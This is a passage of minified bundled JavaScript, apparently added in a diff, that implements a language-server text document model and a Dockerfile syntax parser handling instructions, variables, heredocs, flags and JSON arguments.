+`,"\r"];(function(n){function e(r,o,a,c){return new Ha(r,o,a,c)}n.create=e;function t(r){let o=r;return!!(b.defined(o)&&b.string(o.uri)&&(b.undefined(o.languageId)||b.string(o.languageId))&&b.uinteger(o.lineCount)&&b.func(o.getText)&&b.func(o.positionAt)&&b.func(o.offsetAt))}n.is=t;function s(r,o){let a=r.getText(),c=i(o,(u,p)=>{let d=u.range.start.line-p.range.start.line;return d===0?u.range.start.character-p.range.start.character:d}),l=a.length;for(let u=c.length-1;u>=0;u--){let p=c[u],d=r.offsetAt(p.range.start),f=r.offsetAt(p.range.end);if(f<=l)a=a.substring(0,d)+p.newText+a.substring(f,a.length);else throw new Error("Overlapping edit");l=d}return a}n.applyEdits=s;function i(r,o){if(r.length<=1)return r;let a=r.length/2|0,c=r.slice(0,a),l=r.slice(a);i(c,o),i(l,o);let u=0,p=0,d=0;for(;u<c.length&&p<l.length;)o(c[u],l[p])<=0?r[d++]=c[u++]:r[d++]=l[p++];for(;u<c.length;)r[d++]=c[u++];for(;p<l.length;)r[d++]=l[p++];return r}})(Ua||(Ua={}));Ha=class{constructor(e,t,s,i){this._uri=e,this._languageId=t,this._version=s,this._content=i,this._lineOffsets=void 0}get uri(){return this._uri}get languageId(){return this._languageId}get version(){return this._version}getText(e){if(e){let t=this.offsetAt(e.start),s=this.offsetAt(e.end);return this._content.substring(t,s)}return this._content}update(e,t){this._content=e.text,this._version=t,this._lineOffsets=void 0}getLineOffsets(){if(this._lineOffsets===void 0){let e=[],t=this._content,s=!0;for(let i=0;i<t.length;i++){s&&(e.push(i),s=!1);let r=t.charAt(i);s=r==="\r"||r===`
+`,r==="\r"&&i+1<t.length&&t.charAt(i+1)===`
+`&&i++}s&&t.length>0&&e.push(t.length),this._lineOffsets=e}return this._lineOffsets}positionAt(e){e=Math.max(Math.min(e,this._content.length),0);let t=this.getLineOffsets(),s=0,i=t.length;if(i===0)return Fe.create(0,e);for(;s<i;){let o=Math.floor((s+i)/2);t[o]>e?i=o:s=o+1}let r=s-1;return Fe.create(r,e-t[r])}offsetAt(e){let t=this.getLineOffsets();if(e.line>=t.length)return this._content.length;if(e.line<0)return 0;let s=t[e.line],i=e.line+1<t.length?t[e.line+1]:this._content.length;return Math.max(Math.min(s+e.character,i),s)}get lineCount(){return this.getLineOffsets().length}};(function(n){let e=Object.prototype.toString;function t(f){return typeof f<"u"}n.defined=t;function s(f){return typeof f>"u"}n.undefined=s;function i(f){return f===!0||f===!1}n.boolean=i;function r(f){return e.call(f)==="[object String]"}n.string=r;function o(f){return e.call(f)==="[object Number]"}n.number=o;function a(f,m,g){return e.call(f)==="[object Number]"&&m<=f&&f<=g}n.numberRange=a;function c(f){return e.call(f)==="[object Number]"&&-2147483648<=f&&f<=2147483647}n.integer=c;function l(f){return e.call(f)==="[object Number]"&&0<=f&&f<=2147483647}n.uinteger=l;function u(f){return e.call(f)==="[object Function]"}n.func=u;function p(f){return f!==null&&typeof f=="object"}n.objectLiteral=p;function d(f,m){return Array.isArray(f)&&f.every(m)}n.typedArray=d})(b||(b={}))});var Xn=x(ci=>{"use strict";Object.defineProperty(ci,"__esModule",{value:!0});ci.Line=void 0;var Ya=class{constructor(e,t){this.document=e,this.range=t}getRange(){return this.range}getTextContent(){return this.document.getText().substring(this.document.offsetAt(this.range.start),this.document.offsetAt(this.range.end))}isAfter(e){return this.range.start.line>e.range.start.line}isBefore(e){return this.range.start.line<e}};ci.Line=Ya});var Ze=x(li=>{"use strict";Object.defineProperty(li,"__esModule",{value:!0});li.Util=void 0;var Ba=class n{static isUTF8BOM(e){let t=Uint8Array.from(Buffer.from(e,"UTF-8"));return t[0]===239&&t[1]==187&&t[2]==191}static isWhitespace(e){return e===" "||e==="	"||n.isNewline(e)}static isNewline(e){return e==="\r"||e===`
+`}static findLeadingNonWhitespace(e,t){e:for(let s=0;s<e.length;s++)switch(e.charAt(s)){case" ":case"	":continue;case t:t:for(let i=s+1;i<e.length;i++)switch(e.charAt(i)){case" ":case"	":continue;case"\r":s=i+1;continue e;case`
+`:s=i;continue e;default:break t}return-1;default:return s}return-1}static isInsideRange(e,t){return t.start.line===t.end.line?t.start.line===e.line&&t.start.character<=e.character&&e.character<=t.end.character:t.start.line===e.line?t.start.character<=e.character:t.end.line===e.line?e.character<=t.end.character:t.start.line<e.line&&e.line<t.end.line}static parseHeredocName(e){if(e=e.substring(2),e.charAt(0)==="-"&&(e=e.substring(1)),e.charAt(0)==='"'){if(e.charAt(e.length-1)!=='"')return null;e=e.substring(1,e.length-1)}if(e.charAt(0)==="'"){if(e.charAt(e.length-1)!=="'")return null;e=e.substring(1,e.length-1)}return e.charAt(0)==="<"?null:e}};li.Util=Ba});var Ga=x(ui=>{"use strict";Object.defineProperty(ui,"__esModule",{value:!0});ui.Comment=void 0;var lb=(Ae(),me(Me)),ub=Xn(),bp=Ze(),Wa=class extends ub.Line{constructor(e,t){super(e,t)}toString(){let e=this.getContent();return e?"# "+e:"#"}getContent(){let e=this.getContentRange();return e===null?"":this.document.getText().substring(this.document.offsetAt(e.start),this.document.offsetAt(e.end))}getContentRange(){let e=this.getRange(),t=this.document.offsetAt(e.start),s=this.document.getText().substring(t,this.document.offsetAt(e.end)),i=-1,r=-1;for(let o=1;o<s.length;o++)if(!bp.Util.isWhitespace(s.charAt(o))){i=o;break}if(i===-1)return null;for(let o=s.length-1;o>=1;o--)if(!bp.Util.isWhitespace(s.charAt(o))){r=o+1;break}return lb.Range.create(this.document.positionAt(t+i),this.document.positionAt(t+r))}};ui.Comment=Wa});var xp={};Lo(xp,{TextDocument:()=>Va});function za(n,e){if(n.length<=1)return n;let t=n.length/2|0,s=n.slice(0,t),i=n.slice(t);za(s,e),za(i,e);let r=0,o=0,a=0;for(;r<s.length&&o<i.length;)e(s[r],i[o])<=0?n[a++]=s[r++]:n[a++]=i[o++];for(;r<s.length;)n[a++]=s[r++];for(;o<i.length;)n[a++]=i[o++];return n}function wp(n,e,t=0){let s=e?[t]:[];for(let i=0;i<n.length;i++){let r=n.charCodeAt(i);vp(r)&&(r===13&&i+1<n.length&&n.charCodeAt(i+1)===10&&i++,s.push(t+i+1))}return s}function vp(n){return n===13||n===10}function kp(n){let e=n.start,t=n.end;return e.line>t.line||e.line===t.line&&e.character>t.character?{start:t,end:e}:n}function pb(n){let e=kp(n.range);return e!==n.range?{newText:n.newText,range:e}:n}var pi,Va,Rp=up(()=>{"use strict";pi=class n{constructor(e,t,s,i){this._uri=e,this._languageId=t,this._version=s,this._content=i,this._lineOffsets=void 0}get uri(){return this._uri}get languageId(){return this._languageId}get version(){return this._version}getText(e){if(e){let t=this.offsetAt(e.start),s=this.offsetAt(e.end);return this._content.substring(t,s)}return this._content}update(e,t){for(let s of e)if(n.isIncremental(s)){let i=kp(s.range),r=this.offsetAt(i.start),o=this.offsetAt(i.end);this._content=this._content.substring(0,r)+s.text+this._content.substring(o,this._content.length);let a=r+s.text.length,c=this._content.charCodeAt(r-1)===13&&this._content.charCodeAt(r)===10,l=this._content.charCodeAt(a-1)===13&&this._content.charCodeAt(a)===10;if(c||l){this._lineOffsets=void 0;continue}let u=Math.max(i.start.line,0),p=Math.max(i.end.line,0),d=this._lineOffsets,f=wp(s.text,!1,r);if(p-u===f.length)for(let g=0,h=f.length;g<h;g++)d[g+u+1]=f[g];else f.length<1e4?d.splice(u+1,p-u,...f):this._lineOffsets=d=d.slice(0,u+1).concat(f,d.slice(p+1));let m=s.text.length-(o-r);if(m!==0)for(let g=u+1+f.length,h=d.length;g<h;g++)d[g]=d[g]+m}else if(n.isFull(s))this._content=s.text,this._lineOffsets=void 0;else throw new Error("Unknown change event received");this._version=t}getLineOffsets(){return this._lineOffsets===void 0&&(this._lineOffsets=wp(this._content,!0)),this._lineOffsets}positionAt(e){e=Math.max(Math.min(e,this._content.length),0);let t=this.getLineOffsets(),s=0,i=t.length;if(i===0)return{line:0,character:e};for(;s<i;){let o=Math.floor((s+i)/2);t[o]>e?i=o:s=o+1}let r=s-1;return e=this.ensureBeforeEOL(e,t[r]),{line:r,character:e-t[r]}}offsetAt(e){let t=this.getLineOffsets();if(e.line>=t.length)return this._content.length;if(e.line<0)return 0;let s=t[e.line];if(e.character<=0)return s;let i=e.line+1<t.length?t[e.line+1]:this._content.length,r=Math.min(s+e.character,i);return this.ensureBeforeEOL(r,s)}getLineRange(e){let t=this.getLineOffsets();if(e>=t.length){let o=t.length-1;return{start:{line:o,character:0},end:{line:o,character:this._content.length-t[o]}}}else if(e<0)return{start:{line:0,character:0},end:{line:0,character:0}};let s=t[e],i=e+1<t.length?t[e+1]:this._content.length,r=this.ensureBeforeEOL(i,s);return{start:{line:e,character:0},end:{line:e,character:r-s}}}getEOLCharacters(e){let t=this.getLineOffsets();if(e>=t.length)return"";if(e<0)return"";let s=e+1<t.length?t[e+1]:this._content.length,i=this.ensureBeforeEOL(s,t[e]);return this._content.substring(i,s)}ensureBeforeEOL(e,t){for(;e>t&&vp(this._content.charCodeAt(e-1));)e--;return e}get lineCount(){return this.getLineOffsets().length}static isIncremental(e){let t=e;return t!=null&&typeof t.text=="string"&&t.range!==void 0&&(t.rangeLength===void 0||typeof t.rangeLength=="number")}static isFull(e){let t=e;return t!=null&&typeof t.text=="string"&&t.range===void 0&&t.rangeLength===void 0}};(function(n){function e(i,r,o,a){return new pi(i,r,o,a)}n.create=e;function t(i,r,o){if(i instanceof pi)return i.update(r,o),i;throw new Error("TextDocument.update: document must be created by TextDocument.create")}n.update=t;function s(i,r){let o=i.getText(),a=za(r.map(pb),(u,p)=>{let d=u.range.start.line-p.range.start.line;return d===0?u.range.start.character-p.range.start.character:d}),c=0,l=[];for(let u of a){let p=i.offsetAt(u.range.start);if(p<c)throw new Error("Overlapping edit");p>c&&l.push(o.substring(c,p)),u.newText.length&&l.push(u.newText),c=i.offsetAt(u.range.end)}return l.push(o.substr(c)),l.join("")}n.applyEdits=s})(Va||(Va={}))});var Ka=x(di=>{"use strict";Object.defineProperty(di,"__esModule",{value:!0});di.ParserDirective=void 0;var db=Ye(),fb=Xn(),Ja=class extends fb.Line{constructor(e,t,s,i){super(e,t),this.nameRange=s,this.valueRange=i}toString(){return"# "+this.getName()+"="+this.getValue()}getNameRange(){return this.nameRange}getValueRange(){return this.valueRange}getName(){return this.document.getText().substring(this.document.offsetAt(this.nameRange.start),this.document.offsetAt(this.nameRange.end))}getValue(){return this.document.getText().substring(this.document.offsetAt(this.valueRange.start),this.document.offsetAt(this.valueRange.end))}getDirective(){let e=db.Directive[this.getName().toLowerCase()];return e===void 0?null:e}};di.ParserDirective=Ja});var Za=x(fi=>{"use strict";Object.defineProperty(fi,"__esModule",{value:!0});fi.Heredoc=void 0;var Xa=class{constructor(e,t,s,i,r){this.startRange=e,this.name=t,this.nameRange=s,this.contentRange=i,this.endRange=r}getName(){return this.name}getStartRange(){return this.startRange}getNameRange(){return this.nameRange}getContentRange(){return this.contentRange}getDelimiterRange(){return this.endRange}};fi.Heredoc=Xa});var ec=x(gi=>{"use strict";Object.defineProperty(gi,"__esModule",{value:!0});gi.Variable=void 0;var Qa=class{constructor(e,t,s,i,r,o,a,c,l,u){this.name=e,this.nameRange=t,this.range=s,this.modifier=i,this.modifierRange=r,this.substitutionParameter=o,this.substitutionRange=a,this.defined=c,this.buildVariable=l,this.stringValue=u}toString(){return this.stringValue}getName(){return this.name}getNameRange(){return this.nameRange}getRange(){return this.range}getModifier(){return this.modifier}getModifierRange(){return this.modifierRange}getSubstitutionParameter(){return this.substitutionParameter}getSubstitutionRange(){return this.substitutionRange}isDefined(){return this.defined}isBuildVariable(){return this.buildVariable===!0}isEnvironmentVariable(){return this.buildVariable===!1}};gi.Variable=Qa});var Qe=x(hi=>{"use strict";Object.defineProperty(hi,"__esModule",{value:!0});hi.Instruction=void 0;var D=(Ae(),me(Me)),Zn=Ze(),gb=Xn(),Lt=on(),mi=Za(),Qn=ec(),mb=Ye(),tc=class extends gb.Line{constructor(e,t,s,i,r,o){super(e,t),this.dockerfile=s,this.escapeChar=i,this.instruction=r,this.instructionRange=o}toString(){let e=this.getKeyword();for(let t of this.getRawArguments())e+=" ",e+=t.getValue();return e}getRangeContent(e){return e===null?null:this.document.getText().substring(this.document.offsetAt(e.start),this.document.offsetAt(e.end))}getInstructionRange(){return this.instructionRange}getInstruction(){return this.instruction}getKeyword(){return this.getInstruction().toUpperCase()}getArgumentsRange(){let e=this.getArguments();return e.length===0?null:D.Range.create(e[0].getRange().start,e[e.length-1].getRange().end)}getArgumentsRanges(){let e=this.getArguments();if(e.length===0)return[];if(e[0].getRange().start.line===e[e.length-1].getRange().end.line)return[D.Range.create(e[0].getRange().start,e[e.length-1].getRange().end)];let t=[],s=-1,i=e[0].getRange().start,r=this.getInstructionRange(),o=this.document.offsetAt(i)-this.document.offsetAt(r.start),c=this.getTextContent().substring(o,this.document.offsetAt(e[e.length-1].getRange().end)-this.document.offsetAt(r.start)),l=this.document.offsetAt(r.start)+o,u=!1,p=!1;for(let d=0;d<c.length;d++){let f=c.charAt(d);if(f===this.escapeChar){let m=c.charAt(d+1);if(m===" "||m==="	")e:for(let g=d+2;g<c.length;g++)switch(c.charAt(g)){case" ":case"	":continue;case"\r":g++;case`
+`:i!==null&&t.push(D.Range.create(i,this.document.positionAt(l+s+1))),i=null,u=!0,p=!1,d=g;break e;default:break e}else m==="\r"?(i!==null&&(t.push(D.Range.create(i,this.document.positionAt(l+s+1))),i=null),u=!0,p=!1,d+=2):(m===`
+`&&(i!==null&&t.push(D.Range.create(i,this.document.positionAt(l+s+1))),i=null,u=!0,p=!1),d++)}else if(Zn.Util.isNewline(f))p&&(i=null,u=!0,p=!1);else if(!p){if(i===null){if(f==="#"){p=!0;continue}let m=this.document.positionAt(l+d);m.character!==0&&(i=D.Position.create(m.line,0))}s=d}}return i===null?t.push(D.Range.create(this.document.positionAt(l+s),this.document.positionAt(l+s+1))):t.push(D.Range.create(i,this.document.positionAt(l+s+1))),t}getRawArgumentsContent(){let e=this.getArguments();return e.length===0?null:this.getRangeContent(D.Range.create(e[0].getRange().start,e[e.length-1].getRange().end))}getArgumentsContent(){if(this.getArguments().length===0)return null;let t="",s=this.getArgumentsRanges(),i=this.document.getText();for(let r of s)t+=i.substring(this.document.offsetAt(r.start),this.document.offsetAt(r.end));return t}getArguments(){return this.getRawArguments()}getRawArguments(){let e=[],t=this.getInstructionRange(),s=this.document.offsetAt(t.end)-this.document.offsetAt(t.start),r=this.getTextContent().substring(s),o=this.document.offsetAt(t.start)+s,a=!1,c=!1,l=-1,u=!1,p=!1,d=-1,f="";for(let m=0;m<r.length;m++){let g=r.charAt(m);if(Zn.Util.isWhitespace(g))if(p){u=!0,Zn.Util.isNewline(g)&&(u=!1,c&&(c=!1,a=!0));continue}else l!==-1&&(d===-1?e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+m)))):e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),d=-1,f="",l=-1);else if(g===this.escapeChar){let h=r.charAt(m+1);if(h===" "||h==="	")e:for(let y=m+2;y<r.length;y++)switch(r.charAt(y)){case" ":case"	":continue;case"\r":y++;case`
+`:c=!1,p=!0,a=!0,l!==-1&&(d=m),m=y;break e;default:d=m,l===-1&&(m=y-1);break e}else if(h==="\r")c=!1,p=!0,a=!0,l!==-1&&d===-1&&(d=m),m+=2;else if(h===`
+`)c=!1,p=!0,a=!0,l!==-1&&d===-1&&(d=m),m++;else{if(u&&d!==-1&&(e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),f="",l=-1),d=-1,u=!1,p=!1,h==="$")f=f+g+h;else{if(h==="")break;f=f+h}l===-1&&(l=m),m++}}else c||(a&&g==="#"?c=!0:(u&&d!==-1&&(e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),f="",l=-1),u=!1,p=!1,d=-1,f=f+g,l===-1&&(l=m)),a=!1)}return l!==-1&&(d===-1?e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+r.length)))):e.push(new Lt.Argument(f,D.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d))))),e}getExpandedArguments(){let e=this.getArguments();for(let t=0;t<e.length;t++){let s=e[t].getRange(),i=this.document.offsetAt(s.start),r=this.parseVariables(i,e[t].getValue()),o=[],a=!1;for(let c of r){let l=this.dockerfile.resolveVariable(c.getName(),c.getNameRange().start.line);o.push(l),a=a||l!==void 0}if(a){let c="";for(let u=0;u<o.length;u++){let p=r[u].getRange(),d=this.document.offsetAt(p.start),f=this.document.offsetAt(p.end);o[u]?(c+=this.document.getText().substring(i,d),c+=o[u],i=f):(c+=this.document.getText().substring(i,f),i=f)}let l=this.document.offsetAt(s.end);l!==i&&(c+=this.document.getText().substring(i,l)),e[t]=new Lt.Argument(c,s)}}return e}getVariables(){let e=[],t=this.getRawArguments();for(let s of t){let i=s.getRange(),r=this.document.getText().substring(this.document.offsetAt(i.start),this.document.offsetAt(i.end)),o=this.parseVariables(this.document.offsetAt(s.getRange().start),r);for(let a of o)e.push(a)}return e}parseVariables(e,t){let s=[];e:for(let i=0;i<t.length;i++)switch(t.charAt(i)){case this.escapeChar:t.charAt(i+1)==="$"&&i++;break;case"$":if(t.charAt(i+1)==="{"){let r="${",o="",a=-1,c="",l=-1,u=-1,p=-1;t:for(let d=i+2;d<t.length;d++){let f=t.charAt(d);switch(f){case this.escapeChar:for(let k=d+1;k<t.length;k++)switch(t.charAt(k)){case" ":case"	":case"\r":continue;case`
+`:d=k;continue t}break;case"}":r+="}";let m=null,g=null,h=p!==-1?c:null,y=null;a===-1?a=d:a+1===d?(m="",g=D.Range.create(this.document.positionAt(e+a+1),this.document.positionAt(e+a+1))):(l===-1?(l=p+1,u=p+1):u=u+1,m=t.substring(p,p+1),g=D.Range.create(this.document.positionAt(e+p),this.document.positionAt(e+p+1)),y=D.Range.create(this.document.positionAt(e+l),this.document.positionAt(e+u)));let w=this.document.positionAt(e+i);s.push(new Qn.Variable(o,D.Range.create(this.document.positionAt(e+i+2),this.document.positionAt(e+a)),D.Range.create(w,this.document.positionAt(e+d+1)),m,g,h,y,this.dockerfile.resolveVariable(o,w.line)!==void 0,this.isBuildVariable(o,w.line),r)),i=d;continue e;case":":a===-1?a=d:p!==-1?(l===-1&&(l=d),u=d,c+=":"):p=d,r+=":";break;case`
+`:case"\r":case" ":case"	":break;default:a===-1?o+=f:p!==-1?(l===-1&&(l=d),u=d,c+=f):p=d,r+=f;break}}break e}else{if(Zn.Util.isWhitespace(t.charAt(i+1))||i===t.length-1)continue;{let r="";t:for(let a=i+1;a<t.length;a++){let c=t.charAt(a);switch(c){case"\r":case`
+`:case" ":case"	":continue;case"$":case"'":case'"':let l=this.document.positionAt(e+i);s.push(new Qn.Variable(r,D.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),D.Range.create(l,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,l.line)!==void 0,this.isBuildVariable(r,l.line),"$"+r)),i=a-1;continue e;case this.escapeChar:for(let p=a+1;p<t.length;p++)switch(t.charAt(p)){case" ":case"	":case"\r":continue;case`
+`:a=p;continue t}let u=this.document.positionAt(e+i);s.push(new Qn.Variable(r,D.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),D.Range.create(u,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,u.line)!==void 0,this.isBuildVariable(r,u.line),"$"+r));break e}if(c.match(/^[a-z0-9_]+$/i)===null){let l=this.document.positionAt(e+i);s.push(new Qn.Variable(r,D.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),D.Range.create(l,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,l.line)!==void 0,this.isBuildVariable(r,l.line),"$"+r)),i=a-1;continue e}r+=c}let o=this.document.positionAt(e+i);s.push(new Qn.Variable(r,D.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+t.length)),D.Range.create(o,this.document.positionAt(e+t.length)),null,null,null,null,this.dockerfile.resolveVariable(r,o.line)!==void 0,this.isBuildVariable(r,o.line),"$"+r))}}break e}return s}isBuildVariable(e,t){if(this.getKeyword()===mb.Keyword.FROM){for(let o of this.dockerfile.getInitialARGs()){let c=o.getProperty();if(c&&e===c.getName())return!0}return}let s=this.dockerfile.getContainingImage(D.Position.create(t,0)),i=s.getENVs();for(let o=i.length-1;o>=0;o--)if(i[o].isBefore(t)){for(let a of i[o].getProperties())if(a.getName()===e)return!1}let r=s.getARGs();for(let o=r.length-1;o>=0;o--)if(r[o].isBefore(t)){let a=r[o].getProperty();if(a&&a.getName()===e)return!0}}createSingleLineHeredocs(e){let t=[];for(let s of e){let i=s.getValue();if(i.startsWith("<<")&&Zn.Util.parseHeredocName(i)!==null){let r=s.getRange(),o=this.getNameRange(r),a=this.getName(o);t.push(new mi.Heredoc(r,a,o,null,null))}}return t}getName(e){let t=this.document.getText(e),s=!1,i="";e:for(let r=0;r<t.length;r++){let o=t.charAt(r);switch(o){case this.escapeChar:s=!0;for(let a=r+1;a<t.length;a++)switch(t.charAt(a)){case" ":case"	":break;case"\r":r=a+1;continue e;case`
+`:r=a;continue e;default:i+=t.charAt(a),r=a;continue e}break;case"#":if(s){for(let a=r+1;a<t.length;a++)if(t.charAt(a)===`
+`){r=a;continue e}}case" ":case"	":case"\r":case`
+`:if(s)break;default:i+=o;break}}return i}getNameRange(e){let t=this.document.getText(e),s=!1,i=!1,r=-1,o=-1,a=!1,c=null;e:for(let p=0;p<t.length;p++){let d=t.charAt(p);switch(d){case'"':case"'":if(c===d)break e;c=d;continue;case this.escapeChar:for(let f=p+1;f<t.length;f++)if(t.charAt(f)===`
+`){a=!0,f=p;continue e}break;case" ":case"	":case"\r":case`
+`:break;case"<":s?i=!0:s=!0;break;case"-":if(i){i=!1;break}case"#":if(a){for(let f=p+1;f<t.length;f++)if(t.charAt(f)===`
+`){p=f;continue e}}default:if(r===-1&&(r=p),c!==null){o=p+1;break}break e}}if(r===-1)return D.Range.create(e.end,e.end);let l=this.document.positionAt(this.document.offsetAt(e.start)+r),u=c!==null?this.document.positionAt(this.document.offsetAt(e.start)+o):e.end;return D.Range.create(l,u)}getHeredocs(){let e=this.getArguments();if(e.length===0)return[];let t=[],s=this.getRange();if(s.start.line===s.end.line)return this.createSingleLineHeredocs(e);let i=[],r=!1,o=!1,a=-1,c=-1,l=-1,u=0,p=this.document.offsetAt(e[0].getRange().start),d=this.getRangeContent(D.Range.create(e[0].getRange().start,this.getRange().end));e:for(let f=0;f<d.length;f++)switch(d.charAt(f)){case this.escapeChar:o=!0;for(let m=f+1;m<d.length;m++)switch(d.charAt(m)){case" ":case"	":break;case"\r":m++;case`
+`:f=m;continue e;default:f=m;continue e}break;case"\r":break;case`
+`:if(o)break;if(r){a===-1&&(a=f),c=f;let m=i[u],g=m.getRange(),h=this.getNameRange(g),y=this.getName(h),w=this.getDelimiterRange(m,y,D.Range.create(this.document.positionAt(p+l),this.document.positionAt(p+f)));if(w!==null){let k=D.Range.create(this.document.positionAt(p+a),this.document.positionAt(p+l-1));t.push(new mi.Heredoc(g,y,h,k,w)),a=-1,u++}l=-1}else{let m=p+f;for(let g of e)if(this.document.offsetAt(g.getRange().start)<m)g.getValue().startsWith("<<")&&i.push(g);else break;r=!0,l=-1;continue e}break;case" ":case"	":if(o)break;case"#":if(o){for(let m=f+1;m<d.length;m++)if(d.charAt(m)===`
+`){f=m;continue e}}default:o&&(o=!1),r&&(a===-1&&(a=f),l===-1&&(l=f));break}if(r){let f=i[u],m=f.getRange(),g=this.getNameRange(m),h=this.getName(g),y=null,w=this.getDelimiterRange(f,h,D.Range.create(this.document.positionAt(p+l),s.end));w===null?y=D.Range.create(this.document.positionAt(p+a),s.end):c!==-1&&(y=D.Range.create(this.document.positionAt(p+a),this.document.positionAt(p+c))),t.push(new mi.Heredoc(m,h,g,y,w)),u++;for(let k=u;k<i.length;k++){let O=i[u].getRange(),R=this.getNameRange(O),M=this.getName(R);t.push(new mi.Heredoc(O,M,R,null,null)),u++}}else return this.createSingleLineHeredocs(e);return t}getDelimiterRange(e,t,s){let i=this.document.getText(s);if(e.getValue().startsWith("<<-")){let r=0;for(;i.charAt(r)==="	";)r++;return i.substring(r)===t?D.Range.create(D.Position.create(s.start.line,r),s.end):null}return i===t?s:null}};hi.Instruction=tc});var Op=x(yi=>{"use strict";Object.defineProperty(yi,"__esModule",{value:!0});yi.FlagOption=void 0;var nc=class{constructor(e,t,s,i,r){this.range=e,this.name=t,this.nameRange=s,this.value=i,this.valueRange=r}toString(){return this.valueRange!==null?this.name+"="+this.value:this.name}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}};yi.FlagOption=nc});var rc=x(bi=>{"use strict";Object.defineProperty(bi,"__esModule",{value:!0});bi.Flag=void 0;var sc=(Ae(),me(Me)),Sp=Op(),ic=class{constructor(e,t,s,i,r,o){if(this.options=[],this.range=t,this.name=s,this.nameRange=i,this.value=r,this.valueRange=o,this.value!==null){let a=e.offsetAt(o.start),c=-1,l=-1,u=!1;for(let p=0;p<r.length;p++)switch(r.charAt(p)){case"=":if(u=!0,l===-1){l=p+1;break}break;case",":this.options.push(this.createFlagOption(e,r,a,c,l,p)),c=-1,l=-1;break;default:c===-1&&(c=p);break}u&&c!==-1&&this.options.push(this.createFlagOption(e,r,a,c,l,r.length))}}createFlagOption(e,t,s,i,r,o){let a=sc.Range.create(e.positionAt(s+i),e.positionAt(s+o));return r===-1?new Sp.FlagOption(a,t.substring(i,o),a,null,null):new Sp.FlagOption(a,t.substring(i,r-1),sc.Range.create(e.positionAt(s+i),e.positionAt(s+r-1)),t.substring(r,o),sc.Range.create(e.positionAt(s+r),e.positionAt(s+o)))}toString(){return this.valueRange?"--"+this.name+"="+this.value:"--"+this.name}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}getOption(e){for(let t of this.options)if(t.getName()===e)return t;return null}getOptions(){return this.options}hasOptions(){return this.options.length>0}};bi.Flag=ic});var ts=x(wi=>{"use strict";Object.defineProperty(wi,"__esModule",{value:!0});wi.ModifiableInstruction=void 0;var es=(Ae(),me(Me)),oc=rc(),hb=Qe(),ac=class extends hb.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getFlags(){if(!this.flags){this.flags=[];for(let e of this.getArguments()){let t=e.getValue();if(this.stopSearchingForFlags(t))return this.flags;if(t.indexOf("--")===0){let s=e.getRange(),i=this.document.getText().substring(this.document.offsetAt(s.start),this.document.offsetAt(s.end)),r=t.indexOf("="),o=i.indexOf("="),a=!1,c=!1,l=-1;e:for(let p=0;p<i.length;p++)switch(i.charAt(p)){case"\\":case" ":case"	":case"\r":case`
+`:break;case"-":if(c){l=p;break e}else a?c=!0:a=!0;break;default:l=p;break e}let u=this.document.positionAt(this.document.offsetAt(s.start)+l);if(o===-1)this.flags.push(new oc.Flag(this.document,s,t.substring(2),es.Range.create(u,s.end),null,null));else if(o===t.length-1){let p=this.document.positionAt(this.document.offsetAt(s.start)+o);this.flags.push(new oc.Flag(this.document,s,t.substring(2,o),es.Range.create(u,p),"",es.Range.create(s.end,s.end)))}else{let p=this.document.positionAt(this.document.offsetAt(s.start)+o);this.flags.push(new oc.Flag(this.document,s,t.substring(2,r),es.Range.create(u,p),t.substring(r+1),es.Range.create(this.document.positionAt(this.document.offsetAt(s.start)+o+1),s.end)))}}}}return this.flags}getArguments(){let e=super.getArguments(),t=this.getFlags();if(t.length===0)return e;for(let s=0;s<t.length;s++)e.shift();return e}};wi.ModifiableInstruction=ac});var et=x(ki=>{"use strict";Object.defineProperty(ki,"__esModule",{value:!0});ki.JSONInstruction=void 0;var pn=(Ae(),me(Me)),vi=on(),yb=Io(),bb=ts(),cc=class extends bb.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.openingBracket=null,this.closingBracket=null,this.jsonStrings=[];let a=this.getRawArgumentsContent();if(a===null)return;let c=this.getArguments();if(c.length===1&&c[0].getValue()==="[]"){let m=c[0].getRange();this.openingBracket=new vi.Argument("[",pn.Range.create(m.start.line,m.start.character,m.start.line,m.start.character+1)),this.closingBracket=new vi.Argument("]",pn.Range.create(m.start.line,m.start.character+1,m.end.line,m.end.character));return}else if(c.length===2&&c[0].getValue()==="["&&c[1].getValue()==="]"){this.openingBracket=c[0],this.closingBracket=c[1];return}let l=e.offsetAt(this.getArgumentsRange().start),u=-1,p="",d=!1,f="";e:for(let m=0;m<a.length;m++){let g=a.charAt(m);switch(g){case"[":if(p==="")this.openingBracket=new vi.Argument("[",pn.Range.create(e.positionAt(l+m),e.positionAt(l+m+1))),p="[";else if(d)f=f+g;else break e;break;case'"':if(p==="["||p===","){u=m,d=!0,p='"',f=f+g;continue}else if(p==='"')if(d)f=f+g,d=!1,this.jsonStrings.push(new yb.JSONArgument(f,pn.Range.create(e.positionAt(l+u),e.positionAt(l+m+1)),pn.Range.create(e.positionAt(l+u+1),e.positionAt(l+m)))),f="";else break e;else break e;break;case",":if(d)f=f+g;else if(p==='"')p=",";else break e;break;case"]":if(d)f=f+g;else if(p!==""){this.closingBracket=new vi.Argument("]",pn.Range.create(e.positionAt(l+m),e.positionAt(l+m+1)));break e}break;case" ":case"	":break;case"\\":if(d)switch(a.charAt(m+1)){case'"':case"\\":f=f+a.charAt(m+1),m++;continue;case" ":case"	":t:for(let h=m+2;h<a.length;h++)switch(a.charAt(h)){case"\r":h++;case`
